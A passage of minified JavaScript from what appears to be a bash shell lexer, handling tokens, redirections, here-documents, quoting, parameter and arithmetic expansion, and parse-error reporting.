this.pos++,l=this.pos,n[i]=l}else u===36?this.readDollar():u===96?this.readBacktickExpansion():u===92?this.pos+=this.pos+1<s?2:1:u===39?(this.pos++,this.skipSQ()):
u===34?(this.pos++,this.skipDQ()):this.pos++}return a>0&&(c||d(this.pos),this.errors.push({message:"unterminated arithmetic for header",pos:r})),o}peek(e=E.Normal){
return this.hasPeek||(this.readNext(this.nextState,e),this.hasPeek=!0),this.nextState}peekFollow(e){if(!this.hasPeek){let s=e[this.current.token]?E.CommandStart:
E.Normal;this.readNext(this.nextState,s),this.hasPeek=!0}return this.nextState}next(e=E.Normal){if(this.hasPeek){this.hasPeek=!1;let s=this.current;return this.
current=this.nextState,this.nextState=s,this.current}return this.readNext(this.current,e),this.current}unshift(e){this.nextState.copyFrom(e),this.hasPeek=!0}readNext(e,s){
let r=this.src,n=this.srcEnd,o=this.pos;for(;;){if(o=Mn(r,o,n),s===E.TestMode)for(;o<n&&r.charCodeAt(o)===10;)o=Mn(r,o+1,n);if(o>=n||r.charCodeAt(o)!==35)break;
for(;o<n&&r.charCodeAt(o)!==10;)o++}if(this.pos=o,o>=n){this.consumePendingHereDocs(),Se(e,b.EOF,"",o,o);return}let i=o,a=r.charCodeAt(o);if(a===10){this.pos++,
this.consumePendingHereDocs(),Se(e,b.Newline,`
`,i,this.pos);return}if(s===E.TestMode&&(a===60||a===62)&&!(this.pos+1<this.srcEnd&&r.charCodeAt(this.pos+1)===40)){this.pos++,Se(e,b.Word,a===60?"<":">",i,this.
pos),e.keywordEligible=!0;return}a<128&&ie[a]&1&&this.tryReadOperator(e,a,s,i)||a===91&&s===E.ArrayElement&&this.readArrayElement(e,i)||this.readWord(e,s,i)}tryReadOperator(e,s,r,n){
let o=this.src,i=this.pos,a=i+1<this.srcEnd?o.charCodeAt(i+1):0;switch(s){case 59:return a===59?i+2<this.srcEnd&&o.charCodeAt(i+2)===38?(this.pos+=3,Se(e,b.DoubleSemiAmp,
";;&",n,this.pos),!0):(this.pos+=2,Se(e,b.DoubleSemi,";;",n,this.pos),!0):a===38?(this.pos+=2,Se(e,b.SemiAmp,";&",n,this.pos),!0):(this.pos++,Se(e,b.Semi,";",n,
this.pos),!0);case 124:return a===124?(this.pos+=2,Se(e,b.Or,"||",n,this.pos),!0):a===38?(this.pos+=2,Se(e,b.Pipe,"|&",n,this.pos),!0):(this.pos++,Se(e,b.Pipe,"\
|",n,this.pos),!0);case 38:if(a===38)return this.pos+=2,Se(e,b.And,"&&",n,this.pos),!0;if(a===62){this.pos+=2;let l=this.pos<this.srcEnd&&o.charCodeAt(this.pos)===
62;return l&&this.pos++,this.readRedirectTarget(e,l?"&>>":"&>",n)}return this.pos++,Se(e,b.Amp,"&",n,this.pos),!0;case 40:if(r===E.CommandStart&&a===40){let l=this.
errors.length;if(this.readArithmeticCommand(e,n),!this._notArithmetic)return!0;this.errors.length=l,this.pos=n}return this.pos++,Se(e,b.LParen,"(",n,this.pos),!0;case 41:
return this.pos++,Se(e,b.RParen,")",n,this.pos),!0;case 60:case 62:return this.readRedirection(e,n);default:return!1}}readRedirection(e,s){let r=this.src,n=r.charCodeAt(
this.pos),o="";if(n===60){this.pos++;let i=this.pos<this.srcEnd?r.charCodeAt(this.pos):0;if(i===60){this.pos++;let a=this.pos<this.srcEnd?r.charCodeAt(this.pos):
0;if(a===60)this.pos++,o="<<<";else{let l=a===45;l&&this.pos++,this.skipSpacesAndTabs();let c=this.pos;(this.pos>=this.srcEnd||r.charCodeAt(this.pos)!==35)&&this.
readHereDocDelimiter();let d=this.pos>c;return d&&(this.pendingHereDocs??(this.pendingHereDocs=[])).push({delimiter:this._hereDelim,strip:l,quoted:this._hereQuoted}),
Se(e,b.Redirect,l?"<<-":"<<",s,this.pos),e.content=d?this._hereDelim:void 0,e.delimiterQuoted=d&&this._hereQuoted,e.targetPos=c,e.targetEnd=d?this.pos:c,!0}}else{
if(i===40)return this.readProcessSubstitution(e,"<",s),!0;i===62?(o="<>",this.pos++):i===38?(o="<&",this.pos++):o="<"}}else if(n===62){this.pos++;let i=this.pos<
this.srcEnd?r.charCodeAt(this.pos):0;if(i===40)return this.readProcessSubstitution(e,">",s),!0;i===62?(o=">>",this.pos++):i===38?(o=">&",this.pos++):i===124?(o=
">|",this.pos++):o=">"}return this.readRedirectTarget(e,o,s)}readRedirectTarget(e,s,r){let n=this.src;if(this.skipSpacesAndTabs(),this.pos<this.srcEnd){let o=n.
charCodeAt(this.pos);if((o===60||o===62)&&this.pos+1<this.srcEnd&&n.charCodeAt(this.pos+1)===40){let a=this.pos;this.pos+=2,this.extractBalanced(),this._unbalanced&&
this.errors.push({message:"unterminated process substitution",pos:a});let l=n.slice(a,this.pos);return Se(e,b.Redirect,s,r,this.pos),e.content=l,e.targetPos=a,e.
targetEnd=this.pos,!0}let i=this.pos;return o!==10&&o!==35&&this.readRedirectTargetText(),this.redirectToken(e,s,r,i),!0}return this.redirectToken(e,s,r,this.pos),
!0}readRedirectTargetText(){let e=this._buildValue;this._buildValue=!0,this.readWordText(),this._buildValue=e}redirectToken(e,s,r,n){let o=this.pos>n&&(this._wordText.
length>0||this._wordQuoted);Se(e,b.Redirect,s,r,this.pos),e.content=o?this._wordText:void 0,e.targetPos=n,e.targetEnd=o?this.pos:n}readProcessSubstitution(e,s,r){
this.pos++,this.extractBalanced(),this._unbalanced&&this.errors.push({message:"unterminated process substitution",pos:r});let n=this.src.slice(r,this.pos);Se(e,
b.Word,n,r,this.pos)}readHereDocDelimiter(){let e=this.src,s=this.srcEnd,r=this._buildValue;this._buildValue=!0;let n="",o=!1;for(;this.pos<s;){let i=e.charCodeAt(
this.pos);if(i===39){for(o=!0,this.pos++;this.pos<s&&e.charCodeAt(this.pos)!==39;)n+=e[this.pos],this.pos++;this.pos<s&&this.pos++}else if(i===34){for(o=!0,this.
pos++;this.pos<s&&e.charCodeAt(this.pos)!==34;){if(e.charCodeAt(this.pos)===92&&this.pos+1<s){let a=e.charCodeAt(this.pos+1);if(a===10){this.pos+=2;continue}(a===
36||a===96||a===34||a===92)&&this.pos++}n+=e[this.pos],this.pos++}this.pos<s&&this.pos++}else if(i===92){if(this.pos+1<s&&e.charCodeAt(this.pos+1)===10){this.pos+=
2;continue}o=!0,this.pos++,this.pos<s?(n+=e[this.pos],this.pos++):n+="\\"}else if(i===96){let a=this.pos;for(this.pos++;this.pos<s&&e.charCodeAt(this.pos)!==96;)
e.charCodeAt(this.pos)===92&&this.pos++,this.pos++;this.pos<s&&this.pos++,n+=e.slice(a,this.pos)}else if(i===36){let a=this.pos+1<s?e.charCodeAt(this.pos+1):0;(a===
39||a===34)&&(o=!0),this.readDollar(),n+=this._resultText}else{if(i<128&&ie[i]&1)break;n+=e[this.pos],this.pos++}}this._buildValue=r,this._hereDelim=n,this._hereQuoted=
o}consumePendingHereDocs(){let e=this.pendingHereDocs;if(!(e===null||e.length===0)){for(let s of e){let r=this.pos,n=this.skipHereDocBody(s.delimiter,s.strip,this.
parenBoundary,s.quoted);s.target&&(s.target.body.pos=r,s.target.body.end=n,s.target.body.text=this.src.slice(r,n),this.hereDocClosingPos!==-1&&(s.target.closing=
{pos:this.hereDocClosingPos,end:this.hereDocClosingEnd}))}e.length=0}}hereDocClosingPos=-1;hereDocClosingEnd=-1;matchHereDocDelimiter(e,s,r,n){let o=this.src,i=s;
for(let a=0;a<e.length;){if(n&&o.charCodeAt(i)===92&&i+1<r&&o.charCodeAt(i+1)===10){i+=2;continue}if(i>=r||o.charCodeAt(i)!==e.charCodeAt(a))return-1;i++,a++}return i}logicalLineEnd(e,s,r){
let n=this.src,o=n.indexOf(`
`,e);for(;o!==-1&&o<s;){if(!r)return o;let i=o;for(;i>e&&n.charCodeAt(i-1)===92;)i--;if((o-i)%2===0)return o;e=o+1,o=n.indexOf(`
`,e)}return s}skipHereDocBody(e,s,r=!1,n=!1){this.hereDocClosingPos=-1,this.hereDocClosingEnd=-1;let o=this.src,i=this.srcEnd;for(;this.pos<i;){let a=this.pos,l=this.
logicalLineEnd(a,i,!n);for(;;){let d=a;if(s)for(;a<l&&o.charCodeAt(a)===9;)a++;if(n||(a=nt(o,a,l)),a===d)break}let c=this.matchHereDocDelimiter(e,a,l,!n);if(c!==
-1&&!n&&(c=nt(o,c,l)),c===l){let d=this.pos;return(!r||!this.parenBoundary||l!==i)&&(this.hereDocClosingPos=a,this.hereDocClosingEnd=l),this.pos=l<i?l+1:l,d}if(r&&
c!==-1){let d=c;for(;d<l&&o.charCodeAt(d)!==41;)d++;if(d<l||this.parenBoundary&&l===i){let u=this.pos;return this.pos=c,u}}this.pos=l<i?l+1:l}return this.pos}_wordText="";_wordRaw=!1;_wordQuoted=!1;_wordHasExpansions=!1;_wordKeywordEligible=!1;_wordAssignmentState;_bracketWindow;_arithmeticBracketWindow;_wordParts=null;_resultText="";_resultIsRaw=!0;_resultHasExpansion=!1;_resultPart;_unbalanced=!1;_notArithmetic=!1;_arithUnterminated=!1;_dqText="";_dqHasExpansions=!1;_dqParts=null;_dqEnd=0;_hereDelim="";_hereQuoted=!1;readWord(e,s,r=0){
let n=this._errors===null?0:this._errors.length;if(this.readWordText(!1,s,!0),s===E.Normal){let o=this.pos<this.srcEnd?this.src.charCodeAt(this.pos):0;if(!this.
_wordRaw||o!==60&&o!==62){Is(e,b.Word,r,this.pos,this._wordRaw),e.keywordEligible=this._wordKeywordEligible;return}}this.classifyWord(e,s,r,n)}isRedirectVariable(e,s){
let r=this.src;for(let n=e;n<s;n++){let o=r.charCodeAt(n);if(o===91&&n>e)return n+2<s&&r.charCodeAt(s-1)===93&&this.findClosingShellDelimiter(n+1,s,93)===s-1;if(o>=
128||!(gs[o]&(n===e?1:2)))return!1}return s>e}readArrayElement(e,s){let r=this.findClosingBracket(s+1);return r===-1?!1:(this.pos=r+1,this.readWordText(),Is(e,b.
Word,s,this.pos,!0),!0)}classifyWord(e,s,r,n){let o=this.src,i=this._wordRaw,a=this._wordHasExpansions,l=this._wordQuoted,c=this._wordKeywordEligible,d=this._wordAssignmentState,
u=this.pos,p=u-r;if(s===E.CasePattern){let m=b.Word;if(c){let h=i?nh(o,r,p):Qm.get(this.wordValueOf(r,u));h===b.Esac&&(m=h)}Is(e,m,r,u,i),e.keywordEligible=c;return}
let f=null;if(!i&&!a&&c&&(s===E.CommandStart||s===E.TestMode)){let m=u<this.srcEnd?o.charCodeAt(u):0;(!l&&p<=16||m===60||m===62)&&(f=this.wordValueOf(r,u))}if(s===
E.CommandStart&&c){if(i){if(p<=8){let m=nh(o,r,p);if(m!==void 0){Is(e,m,r,u,!0);return}}if(p===2&&o.charCodeAt(r)===91&&o.charCodeAt(r+1)===91){Is(e,b.DblLBracket,
r,u,!0);return}}else if(f!==null&&f.length>0){let m=f.charCodeAt(0);if(m>=97&&m<=122&&f.length<=8||m===33||m===123||m===125){let h=Qm.get(f);if(h!==void 0){Se(e,
h,f,r,u);return}}if(m===91&&f==="[["){Se(e,b.DblLBracket,f,r,u);return}}}if(s===E.CommandStart||s===E.CommandPrefix||s===E.Declaration){if(d===void 0){let m=-1,
h=!1;for(let g=r+1;g<u;g++){let y=o.charCodeAt(g);if(y===61){m=g;break}y===91&&(h=!0)}(m!==-1||s!==E.Declaration&&h)&&(d=yc(o,r,u,wc))}if(d!==void 0){if(s!==E.Declaration&&
d>=Be){if(u<this.srcEnd&&(this._errors!==null&&(this._errors.length=n),this.pos=r,this.readWordText(!0,s,!0),this.pos>u)){this.classifyWord(e,s,r,n);return}(this.
_errors===null||this._errors.length===n)&&this.errors.push({message:"unterminated array subscript",pos:o.indexOf("[",r)})}if(sh(d)){Is(e,b.Assignment,r,u,i),f!==
null&&(e._value=f),e.assignmentOperatorPos=rh(d);return}}}if((s===E.CommandStart||s===E.TestMode)&&c){if(i){if(p===2&&o.charCodeAt(r)===93&&o.charCodeAt(r+1)===
93){Is(e,b.DblRBracket,r,u,!0);return}}else if(f==="]]"){Se(e,b.DblRBracket,f,r,u);return}}if(!a&&this.pos<this.srcEnd){let m=o.charCodeAt(this.pos);if((m===60||
m===62)&&i){let h=o.charCodeAt(r);if(h>=48&&h<=57&&s_(o,r,u)){let g=Number.parseInt(o.slice(r,u),10);if(this.readRedirection(e,r)){e.fileDescriptor=g,e.descriptorEnd=
u;return}}if(h===123&&o.charCodeAt(u-1)===125&&this.isRedirectVariable(r+1,u-1)){let g=o.slice(r+1,u-1);if(this.readRedirection(e,r)){e.variableName=g,e.descriptorEnd=
u;return}}}}Is(e,b.Word,r,u,i),f!==null&&(e._value=f),e.keywordEligible=c}readWordText(e=!1,s=E.Normal,r=!1){let n=this.src,o=this.srcEnd,i=this.pos,a=i,l=0;for(;i<
o;){let q=n.charCodeAt(i);if(q<128&&ie[q]){l=q;break}i++}if(i>=o||ie[l]&1&&!(l===40&&i>a&&bs[n.charCodeAt(i-1)])&&!e){this.pos=i,this._wordText=(this._buildParts||
this._buildValue)&&i>a?n.slice(a,i):"",this._wordRaw=!0,this._wordQuoted=!1,this._wordHasExpansions=!1,this._wordKeywordEligible=!0,this._wordAssignmentState=void 0,
this._buildParts&&(this._wordParts=Rs(this._wordText)&&s!==E.ArrayElement?Bt(n,a,i,void 0)??null:null);return}let c=this._buildParts,d=c||this._buildValue,u=d&&
i>a?n.slice(a,i):"",p=!1,f=!1,m=!0,h=!0,g=i>a?n.charCodeAt(i-1):0,y=yc(n,a,i,wc),x,$="",C=0,_=!1,T;for(c&&(x=[],$=u,C=a,_=u.length>0&&Rs(u));i<o;){let q=n.charCodeAt(
i);if(q>=128||!ie[q]){let P=i;for(i++;i<o;){let N=n.charCodeAt(i);if(N<128&&ie[N])break;i++}if(g=n.charCodeAt(i-1),y=yc(n,P,i,y),d){let N=n.slice(P,i);u+=N,c&&($+=
N,_=_||Rs(N))}continue}if(ie[q]&1){if(e&&y>=Be){let P=this.findClosingBracket(i);if(P!==-1){let N=P+1;if(y=y===Be+1?kc:y-1,g=n.charCodeAt(P),d){let D=n.slice(i,
N);u+=D,c&&($+=D,_=_||Rs(D))}i=N;continue}}if(q===40&&g<128&&bs[g]){if(s===E.FunctionName||y>=Be&&(s===E.CommandStart||s===E.CommandPrefix)||s===E.CommandStart&&
g===33&&m&&n.charCodeAt(a)===33&&nt(n,a+1,o)===i)break;let P=g;if(P===61&&r&&!((s===E.CommandStart||s===E.CommandPrefix||s===E.Declaration||s===E.EvalArgument)&&
sh(y)&&nt(n,rh(y)+1,o)===i))break;let N=i+1,D=this.findClosingShellDelimiter(N,o,41,P===61);if(D===-1&&!r&&!e&&y>=Be||s===E.CommandStart&&P!==61&&D!==-1&&Mn(n,N,
D)===D)break;m=!1;let ve=D===-1?o:D;if(i=D===-1?o:D+1,D===-1&&this.errors.push({message:"unterminated extended glob",pos:N-2}),g=n.charCodeAt(i-1),d){let F="("+
n.slice(N,i);if(u+=F,c&&P!==61){let be=N-2;for(;n.charCodeAt(be)===10&&n.charCodeAt(be-1)===92;)be-=2;if($.length>0){let re=$.slice(0,-1);be>C&&x.push({type:"Li\
teral",pos:C,end:be,value:re,text:n.slice(C,be)}),$=""}let U=t_[P];x.push({type:"ExtendedGlob",pos:be,end:i,text:n.slice(be,i),operator:U,pattern:n.slice(N,ve),
parts:this.subFieldParts(N,ve)}),C=i}else c&&($+=F,_=_||Rs(F))}continue}break}if(q===92){i++,i<o?n.charCodeAt(i)===10?(i++,h=!1):(y>=0&&y<Be&&(y=vt),p=!0,m=!1,h=
!1,g=n.charCodeAt(i),d&&(u+=n[i],c&&($+=n[i])),i++):(y>=0&&y<Be&&(y=vt),p=!0,m=!1,g=92,d&&(u+="\\",c&&($+="\\")));continue}if(q===39){let P=i;y>=0&&y<Be&&(y=vt),
p=!0,m=!1,h=!1,i++;let N=i;for(;i<o&&n.charCodeAt(i)!==39;)i++;i>N&&(g=n.charCodeAt(i-1));let D=d?n.slice(N,i):"";d&&(u+=D),i<o?i++:this.errors.push({message:"u\
nterminated single quote",pos:N-1}),c&&(P>C&&(x.push({type:"Literal",pos:C,end:P,value:$,text:n.slice(C,P)}),$=""),x.push({type:"SingleQuoted",pos:P,end:i,value:D,
text:n.slice(P,i)}),C=i);continue}if(q===34){let P=i;if(y>=0&&y<Be&&(y=vt),p=!0,m=!1,h=!1,i++,this.pos=i,this.readDoubleQuoted(),i=this.pos,this._dqEnd>P+1&&(g=
n.charCodeAt(this._dqEnd-1)),this._dqHasExpansions&&(f=!0),d&&(u+=this._dqText),c){P>C&&(x.push({type:"Literal",pos:C,end:P,value:$,text:n.slice(C,P)}),$="");let N=n.
slice(P,i);x.push({type:"DoubleQuoted",pos:P,end:i,text:N,parts:this._dqParts??[{type:"Literal",pos:P+1,end:this._dqEnd,value:this._dqText,text:n.slice(P+1,this.
_dqEnd)}]}),C=i}continue}if(q===36){m=!1;let P=i;y>=0&&y<Be&&(y=vt);let N=i+1<o?n.charCodeAt(i+1):0;(N===39||N===34)&&(p=!0),this.pos=i,this.readDollar(),i=this.
pos,this._resultIsRaw||(h=!1),i>P&&(g=n.charCodeAt(i-1)),this._resultHasExpansion&&(f=!0),d&&(u+=this._resultText),c&&(this._resultPart?(P>C&&(x.push({type:"Lit\
eral",pos:C,end:P,value:$,text:n.slice(C,P)}),$=""),x.push(this._resultPart),C=i):$+=this._resultText);continue}if(q===96){m=!1;let P=i;y>=0&&y<Be&&(y=vt),this.
pos=i,this.readBacktickExpansion(),i=this.pos,h=!1,g=n.charCodeAt(i-1),f=!0,d&&(u+=this._resultText),c&&(P>C&&(x.push({type:"Literal",pos:C,end:P,value:$,text:n.
slice(C,P)}),$=""),x.push(this._resultPart),C=i);continue}if(q===123){y>=0&&y<Be&&(y=vt);let P=i+1<o?n.charCodeAt(i+1):0,N=P<=32||P===125?-1:this.scanBraceExpansion(
i,T??(T=new Map));if(N>0){if(m=!1,g=n.charCodeAt(N-1),d){let D=n.slice(i,N);u+=D,c&&(i>C&&(x.push({type:"Literal",pos:C,end:i,value:$,text:n.slice(C,i)}),$=""),
x.push({type:"BraceExpansion",pos:i,end:N,text:D,parts:this.subFieldParts(i+1,N-1)}),C=N)}i=N;continue}g=123,d&&(u+="{",c&&($+="{")),i++;continue}i++}c&&i>C&&x.
push({type:"Literal",pos:C,end:i,value:$,text:n.slice(C,i)}),this.pos=i,this._wordText=u,this._wordRaw=h,this._wordQuoted=p,this._wordHasExpansions=f,this._wordKeywordEligible=
m,this._wordAssignmentState=y,c&&(this._wordParts=x.length>1||x.length===1&&x[0].type!=="Literal"?x:null,_&&s!==E.ArrayElement&&(this._wordParts=Bt(n,a,i,this._wordParts)??
null))}readInnerWordText(e=!1,s=!1,r=!1){let n=this.src,o=this.srcEnd,i=this.pos,a=i,l="",c=this._buildParts,d,u="",p=0,f=!1,m=!1;for(c&&(d=[],p=i);i<o;){let h=n.
charCodeAt(i);if(h===92){if(i++,i<o)if(n.charCodeAt(i)===10)i++;else{let g=n.charCodeAt(i);e&&g!==36&&g!==96&&g!==34&&g!==92&&g!==125&&(l+="\\",c&&(u+="\\"),f=!0);
let y=n[i++];l+=y,c&&(u+=y)}continue}if(h===39&&!e){let g=i;i++;let y=i;for(;i<o&&n.charCodeAt(i)!==39;)i++;let x=n.slice(y,i);l+=x,i<o&&i++,c&&(g>p&&(d.push({type:"\
Literal",pos:p,end:g,value:u,text:n.slice(p,g)}),u=""),d.push({type:"SingleQuoted",pos:g,end:i,value:x,text:n.slice(g,i)}),p=i);continue}if(h===34){let g=i;if(i++,
this.pos=i,this.readDoubleQuoted(e),i=this.pos,l+=this._dqText,c){g>p&&(d.push({type:"Literal",pos:p,end:g,value:u,text:n.slice(p,g)}),u="");let y=n.slice(g,i);
d.push({type:"DoubleQuoted",pos:g,end:i,text:y,parts:this._dqParts??[{type:"Literal",pos:g+1,end:this._dqEnd,value:this._dqText,text:n.slice(g+1,this._dqEnd)}]}),
p=i}continue}if(h===36){let g=i;this.pos=i,this.readDollar(e),i=this.pos,l+=this._resultText,c&&(this._resultPart?(g>p&&(d.push({type:"Literal",pos:p,end:g,value:u,
text:n.slice(p,g)}),u=""),d.push(this._resultPart),p=i):u+=this._resultText);continue}if(h===96){let g=i;this.pos=i,this.readBacktickExpansion(e),i=this.pos,l+=
this._resultText,c&&(g>p&&(d.push({type:"Literal",pos:p,end:g,value:u,text:n.slice(p,g)}),u=""),d.push(this._resultPart),p=i);continue}if(!e&&!s&&(h===60||h===62)&&
i+1<o&&n.charCodeAt(i+1)===40){let g=i;this.pos=i+2;let y=this.extractBalanced();i=this.pos;let x=n.slice(g,i);l+=x,c&&(g>p&&(d.push({type:"Literal",pos:p,end:g,
value:u,text:n.slice(p,g)}),u=""),d.push(this.processSubstitution(g,x,h===60?"<":">",y)),p=i);continue}l+=n[i],c&&(u+=n[i],r&&(h===42||h===63||h===91)&&(m=!0)),
i++}c&&i>p&&d.push({type:"Literal",pos:p,end:i,value:u,text:n.slice(p,i)}),this.pos=i,this._wordText=l,this._wordRaw=!1,this._wordQuoted=!1,this._wordHasExpansions=
!1,this._wordKeywordEligible=!1,c&&(this._wordParts=d.length>1||d.length===1&&(d[0].type!=="Literal"||f)?d:null,m&&(this._wordParts=Bt(n,a,i,this._wordParts)??null))}subFieldParts(e,s){
if(!(this._nestingDepth>=256))return Xr(this.src,e,s)?this.parseSubFieldWord(e,s).parts:Bt(this.src,e,s,void 0)}parseSubFieldWord(e,s,r="word",n=!1){if(e>=s)return new je(
"",e,e);if(this._nestingDepth>=256)return new je(this.src.slice(e,s),e,s);this._nestingDepth++;let o=this.srcEnd,i=this._bracketWindow,a=this._arithmeticBracketWindow,
l=this.pos,c=this._wordText,d=this._wordParts,u=this._wordQuoted,p=this._wordKeywordEligible;this.srcEnd=s,this.pos=e,this.readInnerWordText(r==="quoted",n,r===
"word");let f=new je(this.src.slice(e,s),e,s);return this._buildParts&&(f.parts=this._wordParts??void 0),this.srcEnd=o,this._bracketWindow=i,this._arithmeticBracketWindow=
a,this.pos=l,this._wordText=c,this._wordParts=d,this._wordQuoted=u,this._wordKeywordEligible=p,this._nestingDepth--,f}skipSQ(){for(;this.pos<this.srcEnd&&this.src.
charCodeAt(this.pos)!==39;)this.pos++;this.pos<this.srcEnd&&this.pos++}skipAnsiCQuoted(){let e=this.pos-1,s=Wn(this.src,this.pos,this.srcEnd);this.pos=s.end,s.closed||
this.errors.push({message:"unterminated ANSI-C quote",pos:e})}skipDQ(){let e=this.src,s=this.srcEnd;if(this._unbalanced=!1,this._nestingDepth<256)for(;this.pos<
s;){let r=e.charCodeAt(this.pos);if(r===34){this.pos++;return}if(r===92){this.pos=Math.min(this.pos+2,s);continue}if(r===96)break;if(r===36){let n=e.charCodeAt(
this.pos+1);if(n===40||n===123||n===36)break}this.pos++}this.extractBalanced(!0,!0)}skipSpacesAndTabs(){this.pos=Mn(this.src,this.pos,this.srcEnd)}readDoubleQuoted(e=!1){
let s=this.src,r=this.srcEnd,n=this.pos,o=!1,i=this._buildParts,a=i||this._buildValue;if(!i){let p=this.pos;for(;p<r;){let f=s.charCodeAt(p);if(f===34){this._dqText=
a?s.slice(n,p):"",this._dqEnd=p,this.pos=p+1,this._dqHasExpansions=!1,this._dqParts=null;return}if(f===36||f===96||f===92)break;p++}}let l="",c=null,d="",u=i?this.
pos:0;for(;this.pos<r&&s.charCodeAt(this.pos)!==34;){let p=this.pos;for(;this.pos<r;){let m=s.charCodeAt(this.pos);if(m===34||m===92||m===36||m===96)break;this.
pos++}if(a&&this.pos>p){let m=s.slice(p,this.pos);l+=m,i&&(d+=m)}if(this.pos>=r||s.charCodeAt(this.pos)===34)break;let f=s.charCodeAt(this.pos);if(f===92){if(this.
pos++,this.pos<r){let m=s.charCodeAt(this.pos);if(m===10){this.pos++;continue}if(a)if(e||m===36||m===96||m===34||m===92){let h=s[this.pos];l+=h,i&&(d+=h)}else{let h="\
\\"+s[this.pos];l+=h,i&&(d+=h)}this.pos++}continue}if(f===36){let m=this.pos+1<r?s.charCodeAt(this.pos+1):0;if(m===34||m===39){a&&(l+="$",i&&(d+="$")),this.pos++;
continue}let h=this.pos;if(this.readDollar(!0),a&&(l+=this._resultText),this._resultHasExpansion&&(o=!0),i){let g=this._resultPart;g&&Zm(g)?(c||(c=[]),h>u&&(c.push(
{type:"Literal",pos:u,end:h,value:d,text:s.slice(u,h)}),d=""),c.push(g),u=this.pos):d+=this._resultText}continue}if(f===96){let m=this.pos;this.readBacktickExpansion(
!0),a&&(l+=this._resultText),o=!0,i&&this._resultPart&&Zm(this._resultPart)&&(c||(c=[]),m>u&&(c.push({type:"Literal",pos:u,end:m,value:d,text:s.slice(u,m)}),d=""),
c.push(this._resultPart),u=this.pos);continue}}i&&c&&this.pos>u&&c.push({type:"Literal",pos:u,end:this.pos,value:d,text:s.slice(u,this.pos)}),this._dqEnd=this.pos,
this.pos<r?this.pos++:this.errors.push({message:"unterminated double quote",pos:n-1}),this._dqText=l,this._dqHasExpansions=o,this._dqParts=c}readDollar(e=!1){let s=this.
pos;this.pos++;let r=this.src,n=this.srcEnd,o=this._buildParts||this._buildValue;if(this.pos>=n){this._resultText="$",this._resultIsRaw=!0,this._resultHasExpansion=
!1,this._resultPart=void 0;return}let i=nt(r,this.pos,n);i>this.pos&&r.charCodeAt(i)===40&&r.charCodeAt(i+1)!==40&&(this.pos=i);let a=r.charCodeAt(this.pos);if(a===
40){if(this.pos+1<n&&r.charCodeAt(this.pos+1)===40){let l=this.pos,c=this.errors.length;if(this.readArithmeticExpansion(s),!this._notArithmetic)return;this.errors.
length=c,this.pos=l}this.readCommandSubstitution(s);return}if(a===123){let l=this.pos+1<n?r.charCodeAt(this.pos+1):0;if(l===32||l===9||l===10){this.readBraceCommandSubstitution();
return}if(l===124){this.readValueSubstitution();return}this.readParameterExpansion(e);return}if(a===39){if(this.pos++,o){let l=this.readAnsiCQuoted();this._resultText=
l,this._resultPart=this._buildParts?{type:"AnsiCQuoted",pos:s,end:this.pos,text:r.slice(s,this.pos),value:l}:void 0}else this.skipAnsiCQuoted(),this._resultText=
"",this._resultPart=void 0;this._resultIsRaw=!1,this._resultHasExpansion=!1;return}if(a===34){if(this.pos++,this.readDoubleQuoted(e),this._resultText=this._dqText,
this._resultIsRaw=!1,this._resultHasExpansion=this._dqHasExpansions,this._buildParts){let l=r.slice(s,this.pos);this._resultPart={type:"LocaleString",pos:s,end:this.
pos,text:l,parts:this._dqParts??[{type:"Literal",pos:s+2,end:this._dqEnd,value:this._dqText,text:r.slice(s+2,this._dqEnd)}]}}else this._resultPart=void 0;return}
if(a===64||a===42||a===35||a===63||a===45||a===36||a===33||a>=48&&a<=57){this.pos++;let l=o?r.slice(this.pos-2,this.pos):"";this._resultText=l,this._resultIsRaw=
!0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?{type:"SimpleExpansion",pos:s,end:this.pos,text:l}:void 0;return}if(a<128&&gs[a]&1){let l=this.
pos-1;for(;this.pos<n;){let d=r.charCodeAt(this.pos);if(d<128&&gs[d]&2)this.pos++;else break}let c=o?r.slice(l,this.pos):"";this._resultText=c,this._resultIsRaw=
!0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?{type:"SimpleExpansion",pos:s,end:this.pos,text:c}:void 0;return}if(a===91){let l=this._errors===
null?0:this._errors.length,c=this.findClosingArithmeticBracket(this.pos+1);if(c!==-1){let d=this.pos+1,u=r.slice(d,c);this.pos=c+1;let p=o?r.slice(s,this.pos):"";
this._resultText=p,this._resultIsRaw=!0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?this.arithmeticExpansion(d-2,p,u,d):void 0;return}this._errors!==
null&&(this._errors.length=l)}this._resultText="$",this._resultIsRaw=!0,this._resultHasExpansion=!1,this._resultPart=void 0}scanArithmeticBody(){this._notArithmetic=
!1,this._arithUnterminated=!1,this.pos+=2;let e=1,s=0,r=0,n,o=!1,i=this.src,a=this.srcEnd,l=this.pos;for(;this.pos<a&&e>0;){let d=i.charCodeAt(this.pos);if(d===
92)this.pos+=this.pos+1<a?2:1;else if(d===39)this.pos++,this.skipSQ();else if(d===34)this.pos++,this.skipDQ();else if(d===96){for(this.pos++;this.pos<a&&i.charCodeAt(
this.pos)!==96;)i.charCodeAt(this.pos)===92&&this.pos++,this.pos++;this.pos<a&&this.pos++}else if(d===36&&this.pos+2<a&&i.charCodeAt(this.pos+1)===40&&i.charCodeAt(
this.pos+2)!==40){let u=this.pos;this.pos+=2,this.extractBalanced(),this._unbalanced&&this.errors.push({message:"unterminated command substitution",pos:u})}else if(d===
36&&this.pos+1<a&&i.charCodeAt(this.pos+1)===123){let u=this.findClosingBrace(this.pos+2,a);this.pos=u===-1?a:u+1}else if((d===60||d===62)&&this.pos+1<a&&i.charCodeAt(
this.pos+1)===40)this.pos+=2,this.extractBalanced();else if(d===40)i.charCodeAt(this.pos-1)===36&&i.charCodeAt(this.pos+1)===40?(e===1?r=s:(n??(n=[])).push(s),e++,
s=0,e+this._nestingDepth>256&&!o&&(this.errors.push({message:"maximum arithmetic expansion nesting depth exceeded",pos:this.pos-1}),o=!0),this.pos+=2):(++s+e-1+
this._nestingDepth>256&&!o&&(this.errors.push({message:"maximum arithmetic expression nesting depth exceeded",pos:this.pos}),o=!0),this.pos++);else if(d===41&&s>
0)s--,this.pos++;else if(d===41&&this.pos+1<a&&i.charCodeAt(this.pos+1)===41){if(--e===0){this.pos+=2;break}s=e===1?r:n.pop(),this.pos+=2}else{if(d===41&&e===1)
return this._notArithmetic=!0,"";this.pos++}}let c=this._buildParts||this._buildValue;return e>0?(this._arithUnterminated=!0,c?i.slice(l,this.pos):""):c?i.slice(
